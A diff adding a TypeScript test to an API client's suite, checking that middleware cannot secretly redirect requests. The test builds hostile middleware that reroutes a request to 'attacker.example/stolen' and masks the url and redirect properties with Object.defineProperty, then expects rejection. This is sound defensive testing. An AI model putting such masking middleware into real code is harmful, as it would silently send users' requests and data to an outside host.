@@ -215,6 +215,33 @@ describe("a raw call", () => {
     expect(sent).toEqual([]);
   });
 
+  it("checks a plain Request's own url and redirect, not properties laid over them", async () => {
+    const sent: string[] = [];
+    const recording: typeof fetch = async (input) => {
+      sent.push(new Request(input as Request).url);
+      return Response.json(pageFixture());
+    };
+    const ps = raw(recording);
+    // A plain Request (its prototype is Request's) with an own property that hides what fetch sends.
+    const overlaid = (request: Request, key: "url" | "redirect", value: string) =>
+      Object.defineProperty(request, key, { value });
+    const elsewhere = {
+      onRequest: ({ request }: { request: Request }) =>
+        overlaid(new Request("https://attacker.example/stolen", request), "url", request.url),
+    };
+    const following = {
+      onRequest: ({ request }: { request: Request }) =>
+        overlaid(new Request(request, { redirect: "follow" }), "redirect", "manual"),
+    };
+    await expect(ps.GET(ROLES, { params: { path: BRANCH }, middleware: [elsewhere] } as never)).rejects.toMatchObject({
+      field: "request URL",
+    });
+    await expect(ps.GET(ROLES, { params: { path: BRANCH }, middleware: [following] } as never)).rejects.toMatchObject({
+      field: "redirect",
+    });
+    expect(sent).toEqual([]);
+  });
+
   it("answered 204 resolves with that status and no body", async () => {
     const noContent: typeof fetch = async () => new Response(null, { status: 204 });
     const { data, response } = await raw(noContent).DELETE(`${ROLES}/{id}`, {
